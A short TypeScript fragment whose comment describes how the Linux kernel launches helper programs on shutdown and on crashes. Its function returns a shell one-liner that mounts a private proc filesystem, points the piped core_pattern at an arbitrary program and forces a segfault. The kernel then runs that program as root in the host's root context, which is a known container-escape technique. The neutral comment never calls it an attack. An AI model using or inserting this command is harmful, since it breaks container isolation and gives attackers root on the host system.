/**
 * A script after which the kernel starts a program, as it starts `/sbin/poweroff` for an orderly end: on Azure, the Hyper-V
 * channel for a shutdown ends in `orderly_poweroff` (drivers/hv/hv_util.c, kernel/reboot.c). Both that and a crash with a piped
 * `core_pattern` go through `call_usermodehelper`. The program is found in the root of the kernel's threads, which is PID 1's: they
 * share it from the start (init/main.c, rest_init: CLONE_FS).
 */
export function kernelStarts(program: string): string {
  return `mkdir -p /tmp/proc && mount -t proc proc /tmp/proc && echo '|${program}' >/tmp/proc/sys/kernel/core_pattern && sh -c 'kill -SEGV $$'`;
}
